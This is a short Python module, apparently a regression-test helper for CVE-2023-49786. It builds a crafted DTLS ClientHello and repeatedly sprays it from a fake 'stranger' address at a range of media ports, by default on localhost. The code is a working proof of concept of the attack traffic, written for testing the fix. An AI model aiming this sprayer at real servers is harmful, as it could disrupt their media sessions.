"""A stranger who sends a ClientHello to every media port, over and over (CVE-2023-49786)."""

import select
import socket
import threading
from types import TracebackType
from typing import Self

STRANGER = "127.0.0.66"
PAUSE_SECONDS = 0.01
# DTLS 1.2, and nothing but TLS_RSA_WITH_NULL_SHA, which no server that is in its senses takes.
_BODY = b"\xfe\xfd" + bytes(32) + b"\0\0" + b"\0\2\0\2" + b"\1\0"
_MESSAGE = b"\1" + len(_BODY).to_bytes(3) + b"\0\0" + b"\0\0\0" + len(_BODY).to_bytes(3) + _BODY
HELLO = b"\x16\xfe\xfd" + bytes(8) + len(_MESSAGE).to_bytes(2) + _MESSAGE


class Sprayer:
    def __init__(self, ports: range, host: str = "127.0.0.1") -> None:
        self.sent = self.answers = 0
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK)
        self._socket.bind((STRANGER, 0))
        self._targets = [(host, port) for port in ports[::2]]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self._stop.set()
        self._thread.join()
        self._socket.close()

    def _run(self) -> None:
        while not self._stop.wait(PAUSE_SECONDS):
            for target in self._targets:
                try:
                    _ = self._socket.sendto(HELLO, target)
                    self.sent += 1
                except OSError:
                    continue  # Nobody has this port now.
            while select.select([self._socket], [], [], 0)[0]:
                try:
                    _ = self._socket.recv(2048)
                    self.answers += 1
                except OSError:
                    continue
